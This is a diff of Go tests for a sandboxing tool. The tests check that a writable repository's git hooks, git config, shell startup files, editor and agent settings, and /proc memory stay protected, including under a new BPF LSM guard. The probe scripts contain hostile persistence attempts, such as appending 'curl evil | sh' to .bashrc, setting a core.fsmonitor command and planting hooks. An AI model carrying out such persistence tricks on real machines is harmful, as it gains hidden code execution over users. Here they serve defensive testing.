@@ -435,13 +435,16 @@ git config core.fsmonitor 'touch /tmp/pwned' 2>/dev/null && echo config-changed 
 echo 'curl evil | sh' >> .bashrc 2>/dev/null && echo bashrc-changed || echo bashrc-denied
 (cd wt && echo x > "$(git rev-parse --git-common-dir)/hooks/post-checkout") 2>/dev/null && echo wt-hook-planted || echo wt-hook-denied
 echo 'int main(){}' > main.c && git -c user.email=s@s -c user.name=s commit -qam edit && echo commit-ok
+mv .git .git-moved 2>/dev/null && echo gitdir-moved || echo gitdir-move-denied
 `
 	repo := setup()
 	r := sandbox(t, repo, "--rw", repo, "--", "sh", "-c", probe)
 	if r.code != 0 {
 		t.Fatalf("exit %d: %s %s", r.code, r.stdout, r.stderr)
 	}
-	for _, want := range []string{"hook-denied", "config-denied", "bashrc-denied", "wt-hook-denied", "commit-ok"} {
+	// Moving the git directory away (to make a new one, unprotected) is
+	// refused too: it is a mount point.
+	for _, want := range []string{"hook-denied", "config-denied", "bashrc-denied", "wt-hook-denied", "commit-ok", "gitdir-move-denied"} {
 		contains(t, r.stdout, want, "protected paths in a --rw repository")
 	}
 	if _, err := os.Stat(filepath.Join(repo, ".git/hooks/pre-commit")); err == nil {
@@ -450,11 +453,16 @@ echo 'int main(){}' > main.c && git -c user.email=s@s -c user.name=s commit -qam
 	if data, _ := os.ReadFile(filepath.Join(repo, ".git/config")); strings.Contains(string(data), "fsmonitor") {
 		t.Error("core.fsmonitor was written to the host's .git/config")
 	}
-	// A protected name the repository lacks can't be held by a mount; its
-	// creation is reported when the command ends.
+	// A protected name the repository lacks can't be held by a mount:
+	// the BPF LSM guard refuses to make it (TestSandboxGuard); without
+	// it, its creation is reported when the command ends.
 	r = sandbox(t, repo, "--rw", repo, "--", "sh", "-c", "mkdir .vscode && echo '{}' > .vscode/settings.json && echo made")
-	contains(t, r.stdout, "made", "creating a missing protected name")
-	contains(t, r.stderr, "/.vscode was created", "the run's warning")
+	if guardActive(t) {
+		notContains(t, r.stdout, "made", "creating a missing protected name, with the guard")
+	} else {
+		contains(t, r.stdout, "made", "creating a missing protected name")
+		contains(t, r.stderr, "/.vscode was created", "the run's warning")
+	}
 	// brig inspect lists them, from the kernel's mount table.
 	root := sandboxRoot(t)
 	bg := exec.Command(brigBin, "--root", root, "run", "-d", "--name", "prot", "--rw", repo, "--", "sleep", "60")
@@ -471,7 +479,7 @@ echo 'int main(){}' > main.c && git -c user.email=s@s -c user.name=s commit -qam
 	// The control: with --unprotect all, every probe works.
 	ctl := setup()
 	r = sandbox(t, ctl, "--rw", ctl, "--unprotect", "all", "--", "sh", "-c", probe)
-	for _, want := range []string{"hook-planted", "config-changed", "bashrc-changed", "wt-hook-planted", "commit-ok"} {
+	for _, want := range []string{"hook-planted", "config-changed", "bashrc-changed", "wt-hook-planted", "commit-ok", "gitdir-moved"} {
 		contains(t, r.stdout, want, "the control, --unprotect all")
 	}
 	r = sandbox(t, ctl, "--rw", ctl, "--unprotect", ".bashrc", "--", "sh", "-c", probe)
@@ -480,6 +488,65 @@ echo 'int main(){}' > main.c && git -c user.email=s@s -c user.name=s commit -qam
 	}
 	if r := sandbox(t, ctl, "--rw", ctl, "--unprotect", "src", "--", "true"); r.code != 2 || !strings.Contains(r.stderr, `--unprotect "src"`) {
 		t.Errorf("--unprotect of a name not protected: exit %d: %s", r.code, r.stderr)
+	}
+}
+
+// guardActive says whether `brig run --check` finds the BPF LSM guard
+// usable here (root, the BPF LSM active, its programs allowed).
+func guardActive(t *testing.T) bool {
+	t.Helper()
+	out, _ := exec.Command(brigBin, "run", "--check").CombinedOutput()
+	return strings.Contains(string(out), "yes  protected names a writable path lacks")
+}
+
+// TestSandboxGuard: where the BPF LSM can be used, what no mount can
+// hold is refused too: making a protected name the writable path lacks
+// (by open, mkdir, symlink, link or rename), a protected name's parent
+// that is missing as anything but a directory, and opening a sibling's
+// memory through /proc. The control (--unprotect all --allow-ptrace)
+// does each. Without the guard (this host refuses BPF LSM programs; the
+// VM lane has them) the test skips.
+func TestSandboxGuard(t *testing.T) {
+	if !guardActive(t) {
+		out, _ := exec.Command(brigBin, "run", "--check").CombinedOutput()
+		for _, l := range strings.Split(string(out), "\n") {
+			if strings.Contains(l, "protected names a writable path lacks") {
+				t.Skipf("no BPF LSM guard here: %s", l)
+			}
+		}
+		t.Skip("no BPF LSM guard here")
+	}
+	probe := `mkdir .vscode 2>/dev/null && echo vscode-made || echo vscode-refused
+echo x > .envrc 2>/dev/null && echo envrc-made || echo envrc-refused
+ln -s /tmp/x .profile 2>/dev/null && echo symlink-made || echo symlink-refused
+touch y && mv y .zshrc 2>/dev/null && echo renamed-in || echo rename-refused
+touch h && ln h .bash_login 2>/dev/null && echo hardlink-made || echo hardlink-refused
+mkdir w && echo '{}' > w/settings.json && mv w .claude 2>/dev/null && echo claude-moved-in || echo claude-move-refused
+mkdir -p .claude && echo claude-dir-made
+echo '{}' > .claude/settings.json 2>/dev/null && echo claude-settings-made || echo claude-settings-refused
+ln -s /tmp .config 2>/dev/null && echo config-link-made || echo config-link-refused
+touch other && echo other-made
+sleep 30 & pid=$!
+(exec 3</proc/$pid/mem) 2>/dev/null && echo mem-opened || echo mem-refused
+kill $pid
+`
+	dir := t.TempDir()
+	r := sandbox(t, dir, "--rw", dir, "--", "sh", "-c", probe)
+	for _, want := range []string{"vscode-refused", "envrc-refused", "symlink-refused", "rename-refused", "hardlink-refused",
+		"claude-dir-made", "claude-settings-refused", "claude-move-refused", "config-link-refused", "other-made", "mem-refused"} {
+		contains(t, r.stdout, want, "the guard")
+	}
+	for _, name := range []string{".vscode", ".envrc", ".profile", ".zshrc", ".bash_login", ".claude/settings.json", ".config"} {
+		if _, err := os.Lstat(filepath.Join(dir, name)); err == nil {
+			t.Errorf("%s was made on the host", name)
+		}
+	}
+	notContains(t, r.stderr, "was created", "the run's warning: nothing was")
+	ctl := t.TempDir()
+	r = sandbox(t, ctl, "--rw", ctl, "--unprotect", "all", "--allow-ptrace", "--", "sh", "-c", probe)
+	for _, want := range []string{"vscode-made", "envrc-made", "symlink-made", "renamed-in", "hardlink-made",
+		"claude-dir-made", "claude-settings-made", "claude-moved-in", "config-link-made", "other-made", "mem-opened"} {
+		contains(t, r.stdout, want, "the control, --unprotect all --allow-ptrace")
 	}
 }
 
